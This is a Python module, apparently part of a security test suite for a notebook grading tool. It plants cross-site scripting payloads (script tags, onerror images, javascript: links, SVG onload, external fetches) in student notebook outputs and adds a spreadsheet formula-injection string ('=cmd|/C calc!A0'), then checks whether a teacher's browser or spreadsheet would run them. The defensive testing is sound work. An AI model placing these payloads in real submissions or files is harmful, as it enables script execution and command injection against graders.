"""Code for the teacher's browser, and formulas for the teacher's spreadsheet."""

import csv
from html.parser import HTMLParser

from nbformat.v4 import new_markdown_cell

from .attack import Attack, edited, first

SHOW = "from IPython.display import HTML, display\n"
BUNDLE = SHOW + "display({bundle}, raw=True)"
SCRIPT = "<script>take('{token}')</script>"
IMAGE = "<img src='x' onerror=\"take('{token}')\">"
LINK = "<a href=\" javascript:take('{token}')\">marks</a>"
FRAME = '<iframe srcdoc="<p>{token}</p>"></iframe>'
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"take('{token}')\"><script>take('{token}')</script></svg>"
FORM = "<form action='http://example.org/{token}'><input name='password'></form>"
STYLE = "<style>body {{ background: url('http://example.org/{token}') }}</style>"
REFRESH = "<meta http-equiv='refresh' content='0; url=http://example.org/{token}'>"
FAR_IMAGE = "<img src='http://example.org/{token}.png'>"
OBJECT = "<object data='http://example.org/{token}'></object><embed src='http://example.org/{token}'>"
CLOSING = "</pre></div></textarea></script></style>" + SCRIPT

FETCHED = ("src", "href", "action", "data", "srcdoc", "content", "xlink:href", "style", "background")


class Danger(HTMLParser):
    """Collects what a browser would run or fetch, wherever this attack's token is in it."""

    def __init__(self, token: str):
        super().__init__()
        self.token, self.inside, self.found = token, "", []

    def handle_starttag(self, tag, attributes):
        self.inside = tag if tag in ("script", "style") else ""
        for name, value in attributes:
            value = value or ""
            fetches = name in FETCHED
            runs = name.startswith("on") or "javascript:" in value.lower()
            if self.token in value and (runs or (fetches and tag != "a") or name == "srcdoc"):
                self.found.append((tag, name))

    def handle_data(self, data):
        if self.inside and self.token in data:
            self.found.append((self.inside, ""))

    def handle_endtag(self, tag):
        self.inside = ""


def runs_in_browser(world, outcome) -> bool:
    """Whether a page made of the submission holds something of the attack's that a browser runs or fetches."""
    danger = Danger(f"{outcome.name}-{world.places['token']}")
    danger.feed(outcome.pages)
    return bool(danger.found)


def _formula(world, outcome) -> bool:
    """Whether a cell of a table begins like a formula."""
    return any(
        cell[:1] in ("=", "+", "@", "\t") and "cmd" in cell
        for path in world.class_dir.glob("*.csv")
        for row in csv.reader(path.open(newline="", encoding="utf-8"))
        for cell in row
    )


def _shows(name: str, page: str, kind: str = "text/html") -> Attack:
    """The page is displayed by a cell of one's own."""

    def tamper(released, world):
        text = page.format(token=f"{name}-{world.places['token']}")
        return first(name, BUNDLE.format(bundle={kind: text, "text/plain": "plain"}))(released, world)

    works_in, why = (
        ("plain", "") if kind != "image/svg+xml" else (None, "nbconvert shows drawings as pictures")
    )
    return Attack(name, "output", tamper, runs_in_browser, works_in, why)


def _code(name: str, code: str, page: str = SCRIPT, **answers: str) -> Attack:
    """`code` gets PAGE, the page with this world's token."""

    def tamper(released, world):
        text = page.format(token=f"{name}-{world.places['token']}")
        return first(name, f"PAGE = {text!r}\n{code}", **answers)(released, world)

    return Attack(name, "output", tamper, runs_in_browser, None, "nbconvert escapes this; kept so that we do")


def _markdown(name: str, page: str) -> Attack:
    def tamper(released, world):
        text = page.format(token=f"{name}-{world.places['token']}")
        return edited(lambda notebook: notebook.cells.append(new_markdown_cell(text, id="mine")))(
            released, world
        )

    return Attack(name, "output", tamper, runs_in_browser, "plain")


RAISES = "def double(x):\n    raise ValueError(PAGE)"
NAMED = "def double(x):\n    raise type(PAGE, (Exception,), {})(PAGE)"
FORMULA = "def double(x):\n    raise type('=cmd()', (Exception,), {})('=cmd|/C calc!A0')"
ATTACKS = [
    _shows("script", SCRIPT),
    _shows("image-that-fails", IMAGE),
    _shows("javascript-link", LINK),
    _shows("frame", FRAME),
    _shows("drawing", SVG),
    _shows("drawing-as-such", SVG, "image/svg+xml"),
    _shows("script-as-such", "take('{token}')", "application/javascript"),
    _shows("form", FORM),
    _shows("style", STYLE),
    _shows("refresh", REFRESH),
    _shows("far-image", FAR_IMAGE),
    _shows("embedded", OBJECT),
    _markdown("script-in-text", SCRIPT),
    _markdown("image-in-text", IMAGE),
    _markdown("link-in-text", f"[marks](javascript:take('{{token}}'))\n\n{LINK}"),
    _code("script-in-output", "print(PAGE)\nprint('\\x1b[31m' + PAGE + '\\x1b[0m' * 3)"),
    _code("script-in-traceback", "raise ValueError(PAGE)", CLOSING),
    _code("script-in-exception-name", "raise type(PAGE, (Exception,), {'__module__': PAGE})(PAGE)", CLOSING),
    _code("script-in-answer", "", CLOSING, double=RAISES),
    _code("script-in-error-of-answer", "", CLOSING, double=NAMED),
    Attack("formula", "output", first("formula", "", double=FORMULA), _formula, None,
           "stock nbgrader's own export holds no messages; kept so that ours stay texts"),
]  # fmt: skip
